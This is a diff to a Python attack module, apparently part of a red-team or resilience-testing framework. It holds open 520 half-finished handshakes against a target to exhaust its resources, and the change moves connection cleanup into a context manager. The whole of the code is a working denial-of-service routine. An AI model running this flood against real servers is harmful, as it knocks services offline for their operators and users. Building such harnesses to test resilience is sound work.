@@ -6,7 +6,7 @@ python -m attacks.handshake_flood --stage 4
 import contextlib
 
 from attacks import Claim, Foothold, Goal, attack
-from attacks.floods import client_hello, many
+from attacks.floods import client_hello, held
 
 NUMBER = 520
 
@@ -33,15 +33,13 @@ async def handshake_flood(foothold: Foothold, goal: Goal) -> Claim:
     """
     await foothold.until("talking")
     hello = client_hello()
-    held = await many(foothold, NUMBER)
-    for sock in held:
-        with contextlib.suppress(OSError):  # that one was cut
-            sock.send(hello)
-    foothold.note(f"{len(held)} handshakes were begun, and are not finished")
-    await foothold.until("over")
-    for sock in held:
-        sock.close()
-    return Claim(did=f"began {len(held)} handshakes")
+    async with held(foothold, NUMBER) as connections:
+        for sock in connections:
+            with contextlib.suppress(OSError):  # that one was cut
+                sock.send(hello)
+        foothold.note(f"{len(connections)} handshakes were begun, and are not finished")
+        await foothold.until("over")
+    return Claim(did=f"began {len(connections)} handshakes")
 
 
 if __name__ == "__main__":
